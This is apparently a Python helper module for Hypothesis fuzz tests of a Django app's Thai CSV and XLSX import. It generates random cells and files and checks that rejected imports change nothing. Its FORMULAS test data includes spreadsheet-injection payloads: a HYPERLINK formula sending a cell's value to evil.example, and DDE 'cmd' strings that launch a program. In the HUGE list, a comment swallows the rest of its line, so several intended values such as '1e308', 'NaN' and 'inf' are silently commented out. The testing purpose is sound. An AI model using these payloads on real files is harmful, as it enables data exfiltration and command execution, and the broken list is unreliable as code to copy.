"""Random cells and table files for the fuzz tests, and what must not change when an import refuses."""

import io
import re

from django.apps import apps
from django.core.exceptions import ValidationError
from django.db import connection
from hypothesis import HealthCheck, event, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from lao_integrity.tabular import ImportRejected

FUZZ = settings(max_examples=25, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large, HealthCheck.large_base_example])


THAI = re.compile(r"[\u0E00-\u0E7F]")
TO_THAI_DIGITS = str.maketrans("0123456789", "๐๑๒๓๔๕๖๗๘๙")
APPS = ("orgs", "announcements", "plans", "ita", "agreements")


# --- cells ----------------------------------------------------------------------------------------------

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"คลิกที่นี่")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=SUM(1,", "=1/0", "=A1", "'=1+1"]


DATES = ["31/02/2569", "29/02/2566", "30/02/2569", "00/00/0000", "31/13/2569", "2569-02-31", "๓๑/๐๒/๒๕๖๙",
         "1/1/1", "31 ก.พ. 2569", "2569-13-01T25:61:00"]


HUGE = ["9" * 40, "-" + "9" * 40, "9" * 5000,  # past Python's 4,300-digit int() limit "1e308", "-1e308", "1e-308", "NaN", "nan", "inf", "-inf", "Infinity",
        "-0", "0.000000001", "1,000,000,000,000.999", "12.345", "-1", "-0.01", "100.01", "101"]


text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
long_text = st.integers(256, 12_000).map(lambda n: "ก" * n)
integers = st.integers(-(10**30), 10**30).map(str)
thai_numbers = st.integers(-1000, 10**6).map(lambda n: str(n).translate(TO_THAI_DIGITS))
floats = st.floats(allow_nan=True, allow_infinity=True).map(repr)
noise = st.one_of(st.just(""), st.just(" "), text, long_text, st.sampled_from(FORMULAS), integers, thai_numbers,
                  floats, st.sampled_from(DATES), st.sampled_from(HUGE))


def cells_like(valid: st.SearchStrategy) -> st.SearchStrategy:
    """A cell that is sometimes what the column expects and sometimes noise."""
    return st.one_of(valid, valid, noise)


def row_of(columns: list[st.SearchStrategy]) -> st.SearchStrategy:
    """A row: the columns' cells, sometimes cut short or carrying extra cells."""
    full = st.tuples(*[cells_like(c) for c in columns]).map(list)
    return st.one_of(full, full, full, st.lists(noise, max_size=len(columns) + 3))


# --- files --------------------------------------------------------------------------------------------------


def _xlsx_value(value):
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        for kind in (int, float):  # numeric-looking cells become numbers, as Excel would keep them
            try:
                return kind(value) if value.strip() and len(value) < 300 and abs(kind(value)) < 1e300 else value
            except (ValueError, OverflowError):
                continue
    return value


def xlsx_from(headers, rows, *, numbers: bool) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", h) for h in headers])
    for row in rows:
        # Strings starting with "=" are written by openpyxl as formula cells: the formulas of the file.
        sheet.append([_xlsx_value(v) if numbers else ILLEGAL_CHARACTERS_RE.sub("", v) for v in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_from(headers, rows, encoding: str) -> bytes:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in [headers, *rows]:
        writer.writerow([c.replace("\x00", "") for c in row])
    return out.getvalue().encode(encoding, errors="replace")


@st.composite
def table_files(draw, headers: list[str], columns: list[st.SearchStrategy]):
    """(filename, bytes) of a csv or xlsx file with random cells, or of something that only claims to be one."""
    if draw(st.booleans()):  # a file that may well be valid: the import must then be consistent
        rows = draw(st.lists(st.tuples(*columns).map(list), min_size=1, max_size=5))
        kind = draw(st.sampled_from(["csv-utf8", "csv-bom", "csv-cp874", "xlsx", "xlsx-text"]))
        if kind.startswith("xlsx"):
            return "file.xlsx", xlsx_from(list(headers), rows, numbers=kind == "xlsx")
        encoding = {"csv-utf8": "utf-8", "csv-bom": "utf-8-sig", "csv-cp874": "cp874"}[kind]
        return "file.csv", csv_from(list(headers), rows, encoding)
    heading = draw(st.one_of(st.just(list(headers)), st.just(list(headers)),
                             st.permutations(headers).map(list),
                             st.lists(st.one_of(st.sampled_from(headers), noise), max_size=len(headers) + 2)))
    rows = draw(st.lists(row_of(columns), max_size=6))
    kind = draw(st.sampled_from(["csv-utf8", "csv-utf8", "csv-bom", "csv-cp874", "csv-latin1", "csv-utf16",
                                 "xlsx", "xlsx", "xlsx-text", "xlsx-truncated", "bytes", "bytes-as-xlsx"]))
    if kind == "bytes":
        return draw(st.sampled_from(["file.csv", "file.xlsx", "file.pdf", "file"])), draw(st.binary(max_size=600))
    if kind == "bytes-as-xlsx":
        return "file.xlsx", b"PK\x03\x04" + draw(st.binary(max_size=600))
    if kind.startswith("xlsx"):
        data = xlsx_from(heading, rows, numbers=kind != "xlsx-text")
        if kind == "xlsx-truncated":
            data = data[: draw(st.integers(0, len(data) - 1))]
        return "file.xlsx", data
    encoding = {"csv-utf8": "utf-8", "csv-bom": "utf-8-sig", "csv-cp874": "cp874", "csv-latin1": "latin-1",
                "csv-utf16": "utf-16"}[kind]
    return "file.csv", csv_from(heading, [[str(c) for c in r] for r in rows], encoding)


# --- what must not change -------------------------------------------------------------------------------


def snapshot(labels=APPS) -> dict:
    """Every row of these apps (with their audit trail, and their many-to-many tables), as tuples."""
    state = {}
    with connection.cursor() as cursor:
        for label in labels:
            for model in apps.get_app_config(label).get_models(include_auto_created=True):
                table = connection.ops.quote_name(model._meta.db_table)
                cursor.execute(f"SELECT * FROM {table} ORDER BY 1")  # noqa: S608 (our own table names)
                state[model._meta.label] = cursor.fetchall()
    return state


def changed_tables(before: dict, after: dict) -> list[str]:
    return [label for label in before if before[label] != after.get(label)]


def assert_thai_rejection(error: Exception) -> None:
    if isinstance(error, ImportRejected):
        messages = [str(p) for p in error.problems]
    else:
        messages = error.messages
    assert messages, "a rejection must say why"
    for message in messages:
        assert THAI.search(message), f"not a Thai message: {message!r}"


def run_import(call, *, consistent, labels) -> None:
    before = snapshot(labels)
    try:
        result = call()
    except (ImportRejected, ValidationError) as error:
        event("rejected")
        assert_thai_rejection(error)
        after = snapshot(labels)
        assert not changed_tables(before, after), f"rejected, yet changed: {changed_tables(before, after)}"
    else:
        event("imported")
        consistent(result)


# --- the imports --------------------------------------------------------------------------------------------


tick = st.sampled_from(["✓", "✓", "", "1", "x", "ใช่"])
PLAN_COLUMNS = [
    st.integers(1, 40).map(str),
    st.sampled_from(["โครงการอบรมคุณธรรม", "มาตรการป้องกันผลประโยชน์ทับซ้อน", "กิจกรรมเวทีประชาคม"]),
    st.sampled_from(["1", "2", "3", "4", "๒", "*1"]),
    st.sampled_from(["10000", "0", "5,000.50", "๑๒๐๐๐", "10000.00"]),
    tick, tick, tick, tick,
    st.sampled_from(["", "ร่วมกับกองช่าง"]),
]
